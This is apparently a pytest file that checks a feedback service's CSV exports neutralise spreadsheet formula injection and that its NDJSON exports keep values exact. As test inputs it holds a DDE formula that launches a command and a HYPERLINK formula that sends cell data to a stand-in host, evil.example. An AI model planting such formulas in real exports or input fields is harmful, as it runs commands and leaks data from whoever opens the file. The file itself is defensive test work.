"""CSV exports neutralise cells a spreadsheet would run as formulas (OWASP CSV injection);
NDJSON keeps every value exact."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest

from app.auth.models import Scope
from app.main import create_app
from app.privacy.service import neutralise_formula
from tests.conftest import bearer, committed_key, make_settings

VOTE_COMMENT = "=cmd|' /C calc'!A0"
CACHE_COMMENT = '=HYPERLINK("https://evil.example/?leak="&A1, "click")'


@pytest.fixture(scope="module")
async def exported(databases) -> AsyncIterator[dict[str, Any]]:
    """A vote sent by a browser token and a cache rating, both with formula comments,
    committed (export reads on its own connection), then exported in both formats."""
    app = create_app(make_settings(await databases.migrated()))
    async with app.router.lifespan_context(app):
        ingest = bearer(await committed_key(app, Scope.ingest))
        admin = bearer(await committed_key(app, Scope.admin))
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://t") as http:
            minted = await http.post(
                "/api/v1/feedback-tokens", json={"conversation_id": "c-x"}, headers=ingest
            )
            token = bearer(minted.json()["token"])
            vote = await http.post(
                "/api/v1/feedback",
                json={
                    "conversation_id": "c-x",
                    "vote": "down",
                    "comment": VOTE_COMMENT,
                    "reasons": ["+SUM(1,2)"],
                },
                headers=token,
            )
            assert vote.status_code == 201, vote.text
            entry = {"cache_key": "k-x", "provider": "p", "model": "m", "cost_usd": 0.01}
            assert (await http.post("/api/v1/cache/entries", json=entry, headers=ingest)).is_success
            rated = await http.post(
                "/api/v1/cache/entries/k-x/feedback",
                json={"rating": 1, "comment": CACHE_COMMENT},
                headers={**ingest, "User-Agent": "@evil-agent"},
            )
            assert rated.status_code == 201, rated.text
            result: dict[str, Any] = {}
            for dataset in ("votes", "cache_feedback"):
                for fmt in ("csv", "ndjson"):
                    response = await http.get(
                        f"/api/v1/export/{dataset}", params={"format": fmt}, headers=admin
                    )
                    assert response.status_code == 200
                    result[f"{dataset}.{fmt}"] = response.text
            yield result


def test_votes_csv_comment_is_text_not_a_formula(exported) -> None:
    [row] = list(csv.DictReader(io.StringIO(exported["votes.csv"])))
    assert row["comment"] == "'" + VOTE_COMMENT
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())


def test_cache_feedback_csv_comment_and_user_agent_are_text(exported) -> None:
    [row] = list(csv.DictReader(io.StringIO(exported["cache_feedback.csv"])))
    assert row["comment"] == "'" + CACHE_COMMENT
    assert row["user_agent"] == "'@evil-agent"


def test_ndjson_stays_exact(exported) -> None:
    [vote] = [json.loads(line) for line in exported["votes.ndjson"].splitlines()]
    assert vote["comment"] == VOTE_COMMENT
    assert vote["reasons"] == ["+SUM(1,2)"]
    [rating] = [json.loads(line) for line in exported["cache_feedback.ndjson"].splitlines()]
    assert rating["comment"] == CACHE_COMMENT
    assert rating["user_agent"] == "@evil-agent"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain = text", "plain = text"),
        ("", ""),
    ],
)
def test_neutralise_formula_rule(value: str, expected: str) -> None:
    assert neutralise_formula(value) == expected
